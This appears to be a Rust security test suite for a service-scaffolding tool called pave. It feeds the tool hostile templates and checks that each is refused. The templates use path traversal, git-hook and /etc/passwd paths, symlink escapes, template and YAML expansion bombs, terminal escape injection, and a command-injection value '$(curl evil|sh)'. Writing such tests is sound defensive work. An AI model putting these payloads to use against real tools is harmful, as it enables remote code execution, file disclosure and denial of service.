//! Templates by people who mean harm, or did not think.

use std::fs;
use std::os::unix::fs::symlink;

use crate::world::{Ran, World};

/// A template `evil` with these files.
fn template(world: &World, files: &[(&str, &str)]) {
    world.write("evil/template.yaml", "kind: Template\nname: evil\nversion: 1.0.0\ndescription: d\n");
    for (path, text) in files {
        world.write(&format!("evil/{path}"), text);
    }
}

fn create(world: &World) -> Ran {
    let set = ["--set", "service.description=d", "--set", "service.owner=o", "--no-input"];
    world.pave(&[&["create-service", "victim", "--template", "./evil"], &set[..]].concat())
}

fn assert_refused(world: &World, why: &str) {
    let ran = create(world).refused(3);
    assert!(ran.stderr.contains(why), "expected `{why}`: {}", ran.transcript());
    assert_eq!(world.entries(), ["evil"], "{}", ran.transcript());
}

#[test]
fn paths_that_leave_or_disguise_themselves() {
    for (path, why) in [
        ("files/{{ derived.up }}/x", "holds `.` or `..`"),
        ("files/{{ derived.root }}", "is absolute"),
        ("files/{{ derived.git }}/hooks/post-checkout", "names git's own files"),
        ("files/x/{{ derived.git }}/config.jinja", "names git's own files"),
        ("files/git~1/config", "names git's own files"),
        ("files/.gitmodules", "names git's own files"),
        ("files/aux.txt", "names a device"),
        ("files/a\u{202e}txt", "direction character"),
        ("files/pave.lock", "written by pave itself"),
        ("files/.pave/schema.json.jinja", "written by pave itself"),
    ] {
        let world = World::new();
        template(&world, &[(path, "x")]);
        let head = world.read("evil/template.yaml");
        let derived = r#"derived: {up: "'../..'", root: "'/etc/x'", git: "'.GIT'"}"#;
        world.write("evil/template.yaml", &format!("{head}{derived}\n"));
        assert_refused(&world, why);
    }
}

#[test]
fn files_that_are_one_file_elsewhere() {
    for (one, other) in [("README.md", "readme.MD"), ("caf\u{e9}", "cafe\u{301}"), ("a/x", "A/y")] {
        let world = World::new();
        template(&world, &[(&format!("files/{one}"), ""), (&format!("files/{other}"), "")]);
        assert_refused(&world, "one file where case or Unicode normalisation are ignored");
    }
}

#[test]
fn links_out_of_the_template() {
    let world = World::new();
    template(&world, &[("files/x", "")]);
    fs::write(world.root().join("secret"), "hunter2").unwrap();
    symlink("../../../secret", world.path("evil/files/link")).unwrap();
    assert_refused(&world, "points out of the tree");
    fs::remove_file(world.path("evil/files/link")).unwrap();
    symlink("/etc", world.path("evil/slots")).unwrap();
    assert_refused(&world, "points out of the tree");
}

#[test]
fn a_link_inside_is_kept_as_a_link() {
    let world = World::new();
    template(&world, &[("files/docs/a", "x")]);
    symlink("docs/a", world.path("evil/files/link")).unwrap();
    create(&world).ok();
    assert_eq!(fs::read_link(world.path("victim/link")).unwrap().to_str(), Some("docs/a"));
    assert_eq!(world.git(&["-C", "victim", "status", "--porcelain"]), "");
}

#[test]
fn strange_files() {
    let world = World::new();
    template(&world, &[]);
    fs::create_dir_all(world.path("evil/files")).unwrap();
    assert_eq!(world.run(world.command("mkfifo").arg("evil/files/pipe"), "mkfifo").status, Some(0));
    assert_refused(&world, "neither a file, a directory nor a link");
}

#[test]
fn what_is_outside_cannot_be_read() {
    for (source, why) in [
        ("{{ env.HOME }}", "`env.HOME` is not defined"),
        ("{{ PATH }}", "`PATH` is not defined"),
        ("{{ debug() }}", "unknown function"),
        ("{% include '/etc/passwd' %}", "template not found"),
        ("{% include '../../secret' %}", "template not found"),
        ("{% import 'template.yaml' as x %}", "template not found"),
    ] {
        let world = World::new();
        fs::write(world.root().join("secret"), "hunter2").unwrap();
        template(&world, &[("files/x.txt.jinja", source)]);
        let ran = create(&world);
        assert_eq!(ran.status, Some(3), "{}", ran.transcript());
        assert!(ran.stderr.contains(why), "{source}: {}", ran.transcript());
    }
}

/// Each of these would end or fill an unguarded process.
#[test]
fn bombs() {
    let minus = format!("{{{{ {}1 }}}}", "-".repeat(200_000));
    let parentheses = format!("{{{{ {}1{} }}}}", "(".repeat(200_000), ")".repeat(200_000));
    let doubling =
        "{% set ns = namespace(a='xxxxxxxx') %}{% for i in range(60) %}{% set ns.a = ns.a ~ ns.a %}{% endfor %}{{ ns.a }}";
    let macros = "{% macro m() %}{{ m() }}{{ m() }}{% endmacro %}{{ m() }}";
    let output = "{% for i in range(100000) %}{% for j in range(90) %}xxxxxxxxxxxxxxxx{% endfor %}{% endfor %}";
    for source in [&minus, &parentheses, doubling, macros, "{% for i in range(1000000000) %}{% endfor %}", output] {
        let world = World::new();
        template(&world, &[("files/x.txt.jinja", source)]);
        let ran = create(&world).refused_or_rejected();
        assert_eq!(world.entries(), ["evil"], "{}", ran.transcript());
    }
}

#[test]
fn bombs_in_expressions_and_schemas() {
    let minus = format!("{}1", "-".repeat(500));
    let manifests = [
        format!("derived: {{x: \"{minus}\"}}\n"),
        "inputs: {properties: {a: {type: string, default: x, pattern: '(a{1000}){1000}'}}}\n".to_owned(),
        "inputs: {properties: {a: {$ref: '#/properties/a', default: x}}}\n".to_owned(),
        "inputs: {properties: {a: {$ref: 'https://example.org/x', default: x}}}\n".to_owned(),
        "inputs: {properties: {a: {$ref: 'file:///etc/passwd', default: x}}}\n".to_owned(),
        "inputs: &a [*a]\n".to_owned(),
        format!("facts:\n  a: &a [{}]\n  b: [{}]\n", "x,".repeat(20_000), "*a,".repeat(3_000)),
        format!("inputs: {}\n", "{a: ".repeat(3000)),
    ];
    for manifest in manifests {
        let world = World::new();
        template(&world, &[("files/x", "")]);
        let head = world.read("evil/template.yaml");
        world.write("evil/template.yaml", &format!("{head}{manifest}"));
        let ran = create(&world);
        // A schema that refers to itself says nothing, and is harmless, as is a long row of signs; all others are errors.
        let is_harmless = manifest.contains("#/properties/a") || manifest.contains("derived");
        assert_eq!(ran.status, Some(if is_harmless { 0 } else { 3 }), "{manifest:.200}: {}", ran.transcript());
    }
}

#[test]
fn nothing_of_a_template_acts_on_the_terminal() {
    let escape = "\\e]0;owned\\a\\e[2J";
    let property = |schema: &str| format!("inputs: {{properties: {{service: {{properties: {{x: {schema}}}}}}}}}\n");
    for manifest in [
        format!("next: [\"make\\n sudo x{escape}\"]\n"),
        "next: [\"make\\n sudo x\"]\n".to_owned(),
        property(&format!("{{type: string, title: \"{escape}\"}}")),
        property(&format!("{{type: string, x-pave: {{prompt: \"{escape}\"}}}}")),
        property(&format!("{{type: string, default: \"\", minLength: 1, x-pave: {{rule: \"{escape}\"}}}}")),
        property(&format!("{{enum: [\"{escape}\"], default: y}}")),
        format!("inputs: {{properties: {{\"z{escape}\": {{type: string}}}}}}\n"),
        format!("includes: [\"x{escape}\"]\n"),
    ] {
        let world = World::new();
        template(&world, &[("files/x", "")]);
        let head = world.read("evil/template.yaml");
        world.write("evil/template.yaml", &format!("{head}{manifest}"));
        let ran = create(&world).refused_or_rejected();
        assert!(!ran.stderr.contains(['\u{1b}', '\u{7}']) && !ran.stdout.contains('\u{1b}'), "{manifest}: {:?}", ran.stderr);
    }
}

#[test]
fn a_command_for_later_holds_no_free_text() {
    let world = World::new();
    template(&world, &[("files/x", "")]);
    let head = world.read("evil/template.yaml");
    world.write(
        "evil/template.yaml",
        &format!("{head}next: ['echo {{{{ service.description }}}}', 'cd {{{{ service.name }}}}']\n"),
    );
    let run = |description: &str| {
        let description = format!("service.description={description}");
        let set = ["--set", &description, "--set", "service.owner=o", "--no-input", "--dry-run"];
        world.pave(&[&["create-service", "victim", "--template", "./evil"], &set[..]].concat())
    };
    assert_eq!(run("plain").status, Some(0));
    assert!(run("$(curl evil|sh)").refused(3).stderr.contains("suggested next"));
}

#[test]
fn characters_that_hide_or_reorder_others_are_no_answer() {
    let world = World::new();
    let ran = world.pave(&["create-service", "x", "--yes", "--no-input", "--set", "service.description=a\u{202e}b\u{2066}c"]);
    assert!(ran.refused(2).stderr.contains("hides or reorders"));
}

#[test]
fn answers_are_never_templates() {
    let world = World::new();
    template(&world, &[("files/x.yaml.jinja", "a: {{ service.description | yaml }}\n")]);
    let text = "{{ 7 * 7 }} {% raw %} ${{ secrets.X }}";
    let set = format!("service.description={text}");
    let ran = world.pave(&[
        "create-service",
        "victim",
        "--template",
        "./evil",
        "--set",
        &set,
        "--set",
        "service.owner=o",
        "--no-input",
    ]);
    ran.ok();
    let value: serde_json::Value = serde_yaml::from_str(&world.read("victim/x.yaml")).unwrap();
    assert_eq!(value["a"], text);
}

impl Ran {
    /// An error of the template: one message, and no crash of pave itself.
    fn refused_or_rejected(self) -> Self {
        assert_eq!(self.status, Some(3), "{}", self.transcript());
        assert!(self.stderr.starts_with("error:"), "{}", self.transcript());
        self
    }
}
